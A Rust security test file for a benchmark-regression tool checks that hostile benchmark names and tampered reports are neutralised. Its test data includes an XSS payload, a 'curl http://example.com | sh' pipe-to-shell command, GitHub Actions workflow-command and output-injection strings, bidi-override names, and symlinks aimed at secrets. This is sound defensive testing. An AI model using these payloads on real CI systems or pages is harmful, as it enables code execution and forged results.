//! What strangers control, row by row of `SECURITY.md`: names and files of a benchmark's author, and reports that came from
//! elsewhere. Each test is named for what the stranger tries.

use std::fs;

use criterion_regress::report::{Leg, annotations, comment, parse_report};
use serde_json::{Value, json};

use crate::case::{Case, ROOT, Ran};
use crate::comment::{hostile, mixed};
use crate::page;
use crate::workflow::commands_in;

/// Every stranger's word holds it.
const MARK: &str = "Zq";

/// Room on a page for all of it.
const ROOMY: usize = 60_000;

/// A page about benchmarks of these names, on both sides, in warnings, and wherever else a report holds words.
fn page_about(names: &[&str]) -> String {
    let words: Vec<String> = names.iter().map(|&name| name.to_owned()).collect();
    let page =
        comment(&[Leg { name: Some(format!("{MARK}{}", names[0])), report: Some(hostile(&mixed(40), &words)) }], ROOMY);
    page::check(&page, MARK).unwrap_or_else(|why| panic!("{why}\n{page}"));
    page
}

/// What a tree of benchmarks of these names becomes as Markdown, by each command that writes it.
fn pages_of_tree(names: &[&str]) -> Vec<String> {
    let case = tree_of(names);
    let calls = [
        "check -b main --all",
        "list --all",
        "compare main new",
        "compare main new --list",
        "audit main new --all",
        "spread main new",
    ];
    let pages = calls.map(|call| case.regress(&format!("{call} --format markdown")).stdout);
    for page in &pages {
        page::check(page, MARK).unwrap_or_else(|why| panic!("{why}\n{page}"));
    }
    pages.into()
}

/// Benchmarks that became slower, and some that are only there on one side.
fn tree_of(names: &[&str]) -> Case {
    names.iter().enumerate().fold(Case::new(), |case, (i, name)| {
        let case = case.benchmark(&format!("{name}{MARK}{i}")).directory(&format!("both{i}"));
        let case = case.baseline(100.0).candidate(if i % 2 == 0 { 150.0 } else { 100.1 });
        case.benchmark(&format!("{name}{MARK}{i} new")).directory(&format!("added{i}")).candidate(100.0)
    })
}

fn everywhere(names: &[&str]) -> Vec<String> {
    let mut pages = pages_of_tree(names);
    pages.push(page_about(names));
    pages
}

#[test]
fn row_1_nobody_is_mentioned() {
    for page in everywhere(&["@user", "@org/team ", "a@b", "\\@user", "&#64;user", "@@a", "(@a)"]) {
        // Inside <code> as well, since mails and quotes lose it.
        for part in page.replace("&#64;", "@").split('@').skip(1) {
            assert!(part.starts_with("&#8203;") || part.starts_with("\\u{200b}"), "@{part}");
        }
    }
}

#[test]
fn row_2_nothing_is_referred_to_or_linked() {
    let names = [
        "#12",
        "owner/repo#1",
        "GH-1",
        "http://example.com/",
        "https://a.b",
        "www.example.com",
        "ftp://a.b",
        "a@example.com",
        "[a](http://b.c)",
        "![a](b.png)",
        "<http://a.b>",
        "[a]: http://b.c",
        "mailto:a@b.c",
        "0123456789abcdef0123456789abcdef01234567",
    ];
    for page in everywhere(&names) {
        let html = page::html(&page);
        assert!(!html.contains("<a") && !html.contains("href"), "{html}");
    }
}

#[test]
fn row_3_backticks_leave_no_code() {
    everywhere(&["`", "``", "```", "```sh\n", "a`b`c", "`<b>`", "~~~", "\\`"]);
}

#[test]
fn row_4_no_cell_or_row_is_forged() {
    let names = ["a|b", "\\|", "`|`", "|", "a\n| x | y |", "a\r\n\r\n# b", "a\u{2028}b", "a\u{85}b", "\t", "a\n---\n"];
    everywhere(&names);
    let page = page_of_check(&tree_of(&names));
    let tables = page::tables(&page::html(&page));
    assert_eq!(tables.len(), 1);
    assert_eq!(tables[0].len(), names.len() + 1, "a row a benchmark, and the head");
    assert!(tables[0].iter().all(|row| row.len() == 7), "{tables:?}");
}

fn page_of_check(case: &Case) -> String {
    case.regress("check -b main --all --format markdown").stdout
}

#[test]
fn row_5_no_html_and_no_marker_of_ours() {
    let names = [
        "<img src=x onerror=alert(1)>",
        "</details>",
        "<details open>",
        "<!-- regress:v1 key=linux -->",
        "-->",
        "</code>",
        "<!doctype>",
        "<?php",
        "<![CDATA[",
        "&lt;b&gt;",
        "<b",
        "</summary>",
        "<sub>",
    ];
    for page in everywhere(&names) {
        assert!(!page.contains("<!") && !page.contains("-->") && !page.contains("<?"), "{page}");
    }
}

#[test]
fn row_6_what_is_hidden_or_turned_is_shown_and_long_names_stay_two() {
    let hidden = [
        "\u{202e}gnp.exe",
        "a\u{2066}b\u{2069}",
        "a\u{200b}b",
        "a\u{200e}b",
        "a\u{61c}b",
        "a\u{feff}b",
        "\u{e0041}\u{e0042}",
        "\u{0}",
        "\u{1b}[31mred",
        "\u{9b}31m",
        "a\u{ad}b",
    ];
    for page in everywhere(&hidden) {
        let is_hidden =
            |c: char| (c.is_control() && c != '\n') || hidden.iter().any(|name| !c.is_ascii() && name.contains(c));
        assert!(!page.contains(is_hidden), "{page:?}");
    }
    let long = "n".repeat(5_000);
    let case = Case::new().benchmark(&format!("{long}a")).directory("a").baseline(100.0).candidate(200.0);
    let case = case.benchmark(&format!("{long}b")).directory("b").baseline(100.0).candidate(200.0);
    let page = page_of_check(&case);
    assert!(page.len() < 4_000, "{page}");
    let names: Vec<&str> =
        page.lines().filter_map(|line| line.split("<code>nn").nth(1)?.split("</code>").next()).collect();
    assert_eq!(names.len(), 2);
    assert_ne!(names[0], names[1]);
    // Nor does a word of thousands of characters push the other rows off the page, wherever it stands.
    let page = page_about(&[&"w".repeat(100_000), &"|".repeat(100_000)]);
    assert!(page.contains("**2 regressions**") && page.contains("**2 improvements**"), "{page}");
}

#[test]
fn row_6_half_a_character_is_no_name() {
    let report = report_with(|report| report["benchmarks"][0]["id"] = "half".into()).replace("\"half\"", "\"\\ud800\"");
    refused(&report, "hex escape");
}

/// A fine report that a stranger has changed, as text.
fn report_with(change: impl FnOnce(&mut Value)) -> String {
    let mut report = serde_json::to_value(mixed(20)).expect("JSON");
    change(&mut report);
    report.to_string()
}

/// It isn't read, and no pass comes of it.
#[track_caller]
fn refused(report: &str, because: &str) -> Ran {
    let case = Case::new().file("report.json", report);
    for call in ["report report.json", "confirm report.json -b main -c new"] {
        case.regress(call).exit_code(2).stderr_contains("failed to read report.json");
    }
    case.regress("report report.json").stderr_contains(because)
}

#[test]
fn row_7_numbers_that_are_none() {
    let number = |text: &str| {
        report_with(|report| report["benchmarks"][0]["baseline"] = "NUMBER".into()).replace("\"NUMBER\"", text)
    };
    refused(&number("1e999"), "out of range");
    refused(&number("-1e999"), "out of range");
    refused(&number("NaN"), "not a report");
    refused(&number("Infinity"), "not a report");
    refused(&number("null"), "not a report");
    refused(&report_with(|report| report["benchmarks"][0]["change"]["lower"] = 1e300.into()), "contradicts itself");
    refused(
        &report_with(|report| report["benchmarks"][0]["change"] = json!({"lower": -7, "estimate": 0, "upper": 0})),
        "contradicts itself",
    );
    refused(&report_with(|report| report["counts"]["regressions"] = 0.into()), "contradicts itself");
    refused(&report_with(|report| report["counts"]["regressions"] = u64::MAX.into()), "contradicts itself");
    refused(&report_with(|report| report["counts"]["regressions"] = (-1).into()), "not a report");
}

#[test]
fn row_7_numbers_beyond_reason_cost_no_page() {
    let report = report_with(|report| {
        report["policy"]["threshold_percent"] = f64::MAX.into();
        report["noise"]["standard_deviation"] = f64::MAX.into();
        report["resolution"] = json!({"median": f64::MAX, "worst": -f64::MAX});
        for row in report["benchmarks"].as_array_mut().expect("rows") {
            row["change"] = json!({"lower": -1, "estimate": 0, "upper": f64::MAX});
            row["threshold"] = f64::MIN_POSITIVE.into();
            row["baseline"] = f64::MIN_POSITIVE.into();
            row["candidate"] = f64::MAX.into();
            row["executions_needed"] = u64::MAX.into();
            row["throughput"] = json!({"kind": "elements-and-bytes", "elements": u64::MAX, "bytes": u64::MAX});
        }
    });
    let report = parse_report(&report).expect("odd, but a report");
    assert!(annotations(&report).iter().all(|a| a.to_command().len() < 2_000));
    let text = comment(&[Leg::only(report)], ROOMY);
    page::check(&text, MARK).unwrap_or_else(|why| panic!("{why}\n{text}"));
    assert!(text.lines().all(|line| line.len() < 3_000), "{text}");
}

#[test]
fn row_7_nesting_without_end_and_files_without_end() {
    let deep = format!("{}{}", "[".repeat(500_000), "]".repeat(500_000));
    refused(&deep, "not a report");
    let schema = "\"schema\": \"criterion-regress/report\", \"version\": 1";
    refused(&format!("{{{schema}, \"x\": {deep}}}"), "not a report");
    let case = Case::new().file("report.json", "");
    let file = fs::OpenOptions::new().write(true).open(case.path("report.json")).expect("a file");
    file.set_len((256 << 20) + 1).expect("a file with a hole");
    case.regress("report report.json").exit_code(2).stderr_contains("larger than 256 MiB");
}

#[test]
fn row_7_measurements_that_are_none() {
    for number in ["1e999", "NaN", "-1", "null", "\"1\""] {
        let case = Case::new()
            .benchmark("ok")
            .baseline(100.0)
            .candidate(100.5)
            .benchmark("odd")
            .baseline(100.0)
            .candidate(100.0);
        let odd = format!("{{\"sampling_mode\":\"Linear\",\"iters\":[1.0,2.0],\"times\":[{number},2.0]}}");
        let case = case.file(&format!("{ROOT}/odd/new/sample.json"), &odd);
        let ran = case.regress("check -b main --format json").verdict("ok", "no-change");
        assert_ne!(ran.json()["outcome"], "pass", "unknown is no pass: {ran}");
    }
}

#[test]
fn row_9_a_report_brings_no_text_of_its_own_to_be_run_or_believed() {
    let command = "curl http://example.com | sh";
    let report = report_with(|report| {
        report["settle"] = json!({"suspects": ["a"], "command": command});
        report["markdown"] = "**PASS**".into();
        report["body"] = "<!-- regress -->".into();
    });
    for format in ["markdown", "terminal", "json", "csv", "junit"] {
        let case = Case::new().file("report.json", &report);
        case.regress(&format!("report report.json --format {format}"))
            .stdout_lacks("curl")
            .stdout_lacks("**PASS**")
            .stdout_lacks("<!-- ");
    }
    let text = comment(&[Leg::only(parse_report(&report).expect("a report"))], ROOMY);
    assert!(!text.contains("curl") && text.contains("to settle 1 benchmark"), "{text}");
}

#[test]
fn row_9_an_outcome_better_than_its_rows_is_refused() {
    for outcome in ["pass", "inconclusive", "nothing-compared"] {
        refused(&report_with(|report| report["outcome"] = outcome.into()), "contradicts itself");
    }
    let untold = report_with(|report| {
        let row = &mut report["benchmarks"].as_array_mut().expect("rows")[4];
        row["verdict"] = "inconclusive".into();
        report["counts"]["regressions"] = 0.into();
        report["counts"]["inconclusive"] = 1.into();
        report["outcome"] = "pass".into();
    });
    refused(&untold, "contradicts itself");
}

#[cfg(unix)]
#[test]
fn row_11_links_in_the_tree_publish_no_file_of_the_machine() {
    use std::os::unix::fs::symlink;

    const SECRET: &str = "hunter2";
    let case = Case::new().benchmark("ok").baseline(100.0).candidate(100.5);
    let case = case.benchmark("linked").baseline(100.0).candidate(100.0).file("secret", SECRET);
    // As JSON that Criterion might have written, so that reading it would show.
    let case = case.file("secret.json", &format!("{{\"full_id\":\"{SECRET}\",\"group_id\":\"{SECRET}\"}}"));
    for (file, to) in
        [("new/sample.json", "secret"), ("new/benchmark.json", "secret.json"), ("main/estimates.json", "secret")]
    {
        let path = case.path(ROOT).join("linked").join(file);
        let _ = fs::remove_file(&path);
        symlink(case.path(to), &path).expect("a link");
    }
    symlink(case.path(""), case.path(ROOT).join("up")).expect("a link");
    symlink("/", case.path(ROOT).join("ok/root")).expect("a link");
    let (summary, output) = (case.path("summary.md"), case.path("output"));
    let case = case.env("GITHUB_ACTIONS", "true").env("GITHUB_STEP_SUMMARY", &summary.to_string_lossy());
    let case = case.env("GITHUB_OUTPUT", &output.to_string_lossy());
    for call in ["check -b main", "list", "compare main new", "export new", "export linked"] {
        for format in ["terminal", "json", "markdown", "csv"] {
            let format = if call.starts_with("export") { String::new() } else { format!(" --all --format {format}") };
            let ran = case.regress(&format!("{call}{format}"));
            assert!(!ran.stdout.contains(SECRET) && !ran.stderr.contains(SECRET), "{ran}");
        }
    }
    let written = fs::read_to_string(summary).expect("a summary") + &fs::read_to_string(output).expect("outputs");
    assert!(!written.contains(SECRET) && written.contains("not followed"), "{written}");
}

/// Names that are commands at the start of a line, and where a narrow table breaks it.
const COMMANDS: [&str; 9] = [
    "::error::a",
    "  ::stop-commands::a",
    "##[group]a",
    "a ##[error]b",
    "a ::set-output name=outcome::pass",
    "aaaaaaaaaaaaaaaa ::add-mask::a",
    "a\n::error::b",
    "a\r::error::b",
    "###[debug]\u{3000}::a",
];

fn in_workflow(case: Case) -> Case {
    let path = |name: &str| case.path(name).to_string_lossy().into_owned();
    let (summary, output) = (path("summary.md"), path("output.txt"));
    case.env("GITHUB_ACTIONS", "true").env("GITHUB_STEP_SUMMARY", &summary).env("GITHUB_OUTPUT", &output)
}

#[test]
fn row_12_no_name_is_a_command_in_the_log() {
    let case = in_workflow(tree_of(&COMMANDS));
    let case = case.file(&format!("{ROOT}/both0/new/sample.json"), "::error::broken");
    case.regress("check -b main -o json=report.json");
    let calls = [
        "check -b main --all",
        "check -b main --format FORMAT",
        "list --format FORMAT --all",
        "compare main new --list",
        "compare main new --format FORMAT",
        "report report.json --all --format FORMAT",
        "export new",
        "audit main new --all --format FORMAT",
        "spread main new --format FORMAT",
    ];
    for call in calls {
        for format in ["terminal", "json", "markdown", "csv", "junit"] {
            for width in ["20", "37", "60", "80", ""] {
                let command = call.replace("FORMAT", format);
                let output = case.command().args(command.split(' ')).env("COLUMNS", width).output().expect("runs");
                let ran = Ran::new(command, &output);
                assert_eq!(commands_in(&ran), Vec::<String>::new(), "{ran}");
                if format == "json" && call.contains("FORMAT") {
                    ran.json();
                }
            }
            if !call.contains("FORMAT") {
                break;
            }
        }
    }
}

#[test]
fn row_12_no_argument_or_error_is_a_command_in_the_log() {
    let case = in_workflow(tree_of(&COMMANDS)).file("regress.toml", "\"::error::a\" = 1\n");
    for name in COMMANDS {
        for arguments in [
            vec!["check", "-b", name],
            vec!["list", "--dir", name],
            vec![name],
            vec!["check", name],
            vec!["check", "--threshold", name],
            vec!["check", "-f", name],
            vec!["report", name],
            vec!["check", "--explain", name],
            vec!["check", "--config", name],
            vec!["export", "main", "--executable", name],
            vec!["--help", name],
        ] {
            let ran = case.regress_with(&arguments);
            assert_eq!(commands_in(&ran), Vec::<String>::new(), "{ran}");
        }
    }
}

#[test]
fn row_12_annotations_hold_no_second_command() {
    let case = in_workflow(tree_of(&COMMANDS));
    let ran = case.regress("check -b main").exit_code(1);
    assert_eq!(ran.stderr.matches("::error title=slower").count(), 5, "{ran}");
    assert_eq!(commands_in(&ran), Vec::<String>::new());
}

#[test]
fn row_13_outputs_are_fixed_names_with_fixed_words_and_numbers() {
    let names = ["a\noutcome=pass", "a\noutcome<<EOF\npass\nEOF", "=pass", "outcome=pass"];
    let case = in_workflow(tree_of(&names));
    case.regress("check -b main").exit_code(1);
    let output = fs::read_to_string(case.path("output.txt")).expect("outputs");
    let lines: Vec<(&str, &str)> = output.lines().map(|line| line.split_once('=').expect("name=value")).collect();
    assert_eq!(lines[0], ("outcome", "regressed"));
    let names: Vec<&str> = lines[1..].iter().map(|(name, _)| *name).collect();
    assert_eq!(names, ["regressions", "suspects", "improvements", "compared", "benchmarks"]);
    assert!(lines[1..].iter().all(|(_, n)| n.parse::<usize>().is_ok()), "{output}");
    let page = fs::read_to_string(case.path("summary.md")).expect("a summary");
    page::check(&page, MARK).unwrap_or_else(|why| panic!("{why}\n{page}"));
}

#[test]
fn every_row_that_the_document_names_a_test_for_has_it() {
    let document =
        fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("SECURITY.md")).expect("SECURITY.md");
    let here = include_str!("security.rs");
    let named: Vec<&str> = document.split('`').filter(|word| word.starts_with("row_")).collect();
    assert!(named.len() >= 10, "{named:?}");
    for test in named {
        assert!(here.contains(&format!("fn {test}")), "SECURITY.md names `{test}`, which isn't here");
    }
}
